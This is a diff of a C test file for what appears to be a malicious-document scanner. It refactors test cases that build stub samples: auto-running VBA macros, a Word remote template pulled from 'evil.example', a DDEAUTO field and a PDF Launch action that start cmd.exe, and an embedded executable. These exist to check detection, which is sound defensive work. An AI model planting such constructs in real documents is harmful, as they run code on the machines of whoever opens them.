@@ -37,6 +37,19 @@ static ks_span text(const char *words) { return ks_str_span(ks_str_of(words)); }
 
 #define TEXT(words) text(words)
 
+// A document of Word of one part, and one that refers to something outside.
+#define DOCUMENT \
+    (made_member) { "word/document.xml", TEXT("<?xml version=\"1.0\"?><w/>"), 0, NULL }
+#define REFERS(name, type, target)                                               \
+    (made_member)                                                                \
+    {                                                                            \
+        "word/_rels/" name ".xml.rels",                                          \
+            TEXT("<?xml version=\"1.0\"?><Relationships><Relationship Id=\"1\" " \
+                 "Type=\"http://x/" type "\" Target=\"" target                   \
+                 "\" TargetMode=\"External\"/></Relationships>"),                \
+            0, NULL                                                              \
+    }
+
 // A mail with the bytes attached in base64.
 static ks_span mail(const char *name, ks_span bytes)
 {
@@ -205,15 +218,16 @@ static void lying(case_run *r)
         { "an archive whose list says otherwise than its members", S(ARCHIVE_TWO_TALES), "a.zip", .bytes = zip((made_member){ "a.exe", exe, 0, "a.txt" }, (made_member){ 0 }) },
         { "macros", S(MACROS), "a.doc", .bytes = compound("VBA/dir", TEXT("x"), "WordDocument") },
         { "macros that run by themselves", S(MACROS_AUTO), "a.doc", .bytes = compound("VBA/ThisDocument", module("Attribut" "e VB_Name = \"T\"\r\nSub AutoOpen()\r\n"), "_VBA_PROJECT") },
-        { "macros in a document of the new form", S(MACROS), "a.docm", .bytes = zip((made_member){ "word/document.xml", TEXT("<?xml version=\"1.0\"?><w/>"), 0, NULL },
+        { "macros in a document of the new form", S(MACROS), "a.docm", .bytes = zip(DOCUMENT,
           (made_member){ "word/vbaProject.bin", compound("VBA/dir", TEXT("x"), NULL), 0, NULL }) },
-        { "macros in a document without macros", S(CONTENT_OTHER), "a.docx", .bytes = zip((made_member){ "word/document.xml", TEXT("<?xml version=\"1.0\"?><w/>"), 0, NULL },
+        { "macros in a document without macros", S(CONTENT_OTHER), "a.docx", .bytes = zip(DOCUMENT,
           (made_member){ "word/vbaProject.bin", compound("VBA/dir", TEXT("x"), NULL), 0, NULL }) },
         { "a sheet of Excel 4 macros", S(MACRO_SHEET), "a.xls", .bytes = compound("Workbook", (ks_span){ sheet_record, sizeof sheet_record }, NULL) },
         { "a program embedded in a document", S(OBJECT_PACKAGE), "a.doc", .bytes = compound("ObjectPool/\1Ole10Native", package("a.exe", exe), "WordDocument") },
-        { "a template fetched from elsewhere", S(TEMPLATE_REMOTE), "a.docx", .bytes = zip((made_member){ "word/document.xml", TEXT("<?xml version=\"1.0\"?><w/>"), 0, NULL },
-          (made_member){ "word/_rels/settings.xml.rels", TEXT("<?xml version=\"1.0\"?><Relationships><Relationship Id=\"1\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/></Relationships>"), 0, NULL }) },
-        { "a field that starts a program", S(FIELD_DDE), "a.docx", .bytes = zip((made_member){ "word/document.xml", TEXT("<?xml version=\"1.0\"?><w:instrText>DDEAUTO c:\\\\cmd.exe \"/k\"</w:instrText>"), 0, NULL }, (made_member){ 0 }) },
+        { "a template fetched from elsewhere", S(TEMPLATE_REMOTE), "a.docx", .bytes = zip(DOCUMENT,
+          REFERS("settings", "attachedTemplate", "http://evil.example/a.dotm")) },
+        { "a field that starts a program", S(FIELD_DDE), "a.docx", .bytes =
+          zip((made_member){ "word/document.xml", TEXT("<?xml version=\"1.0\"?><w:instrText>DDEAUTO c:\\\\cmd.exe \"/k\"</w:instrText>"), 0, NULL }, (made_member){ 0 }) },
         { "an RTF object of the old equation editor", S(OBJECT_EQUATION), "a.doc", .bytes = TEXT("{\\rtf1{\\object\\objemb{\\*\\objdata 01050000020000000b0000004571756174696f6e2e33000000}}}") },
         { "a PDF that starts a program", S(PDF_LAUNCH), "a.pdf", .bytes = TEXT("%PDF-1.7\n1 0 obj<</Type/Action/S/Launch/F(cmd.exe)>>endobj") },
         { "a OneNote page with a script embedded", S(NOTE_FILE), "a.one", .bytes = joined((ks_span){ (const u8 *)"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 16 },
@@ -248,10 +262,10 @@ static void honest(case_run *r)
         { "an RTF document named as one of Word", S(CONTENT_KIN), "a.doc", .bytes = TEXT("{\\rtf1 text}") },
         { "a JPEG picture named as PNG", S(CONTENT_KIN), "a.png", .bytes = TEXT("\xff\xd8\xff\xe0 picture \xff\xd9") },
         { "a workbook without macros", NOTHING, "a.xlsx", .bytes = zip((made_member){ "xl/workbook.xml", TEXT("<?xml version=\"1.0\"?><w/>"), 0, NULL }, (made_member){ 0 }) },
-        { "a document with a link for people", NOTHING, "a.docx", .bytes = zip((made_member){ "word/document.xml", TEXT("<?xml version=\"1.0\"?><w/>"), 0, NULL },
-          (made_member){ "word/_rels/document.xml.rels", TEXT("<?xml version=\"1.0\"?><Relationships><Relationship Id=\"1\" Type=\"http://x/hyperlink\" Target=\"https://partner.example/\" TargetMode=\"External\"/></Relationships>"), 0, NULL }) },
-        { "a document with the template of its own PC", NOTHING, "a.docx", .bytes = zip((made_member){ "word/document.xml", TEXT("<?xml version=\"1.0\"?><w/>"), 0, NULL },
-          (made_member){ "word/_rels/settings.xml.rels", TEXT("<?xml version=\"1.0\"?><Relationships><Relationship Id=\"1\" Type=\"http://x/attachedTemplate\" Target=\"file:///C:\\Users\\a\\Normal.dotm\" TargetMode=\"External\"/></Relationships>"), 0, NULL }) },
+        { "a document with a link for people", NOTHING, "a.docx", .bytes = zip(DOCUMENT,
+          REFERS("document", "hyperlink", "https://partner.example/")) },
+        { "a document with the template of its own PC", NOTHING, "a.docx", .bytes = zip(DOCUMENT,
+          REFERS("settings", "attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")) },
         { "a PDF with a form's script", S(PDF_SCRIPT), "a.pdf", .bytes = TEXT("%PDF-1.7\n1 0 obj<</S/JavaScript/JS(x)>>endobj") },
         { "an electronic invoice with its data embedded", S(PDF_FILES), "a.pdf", .bytes = TEXT("%PDF-1.7\n1 0 obj<</Type/EmbeddedFile>>endobj") },
         { "an encrypted archive with a document, by mail", S(ARCHIVE_ENCRYPTED), "m.eml", .bytes = mail("minutes.zip", zip((made_member){ "minutes.docx", TEXT("x"), 1, NULL }, (made_member){ 0 })) },
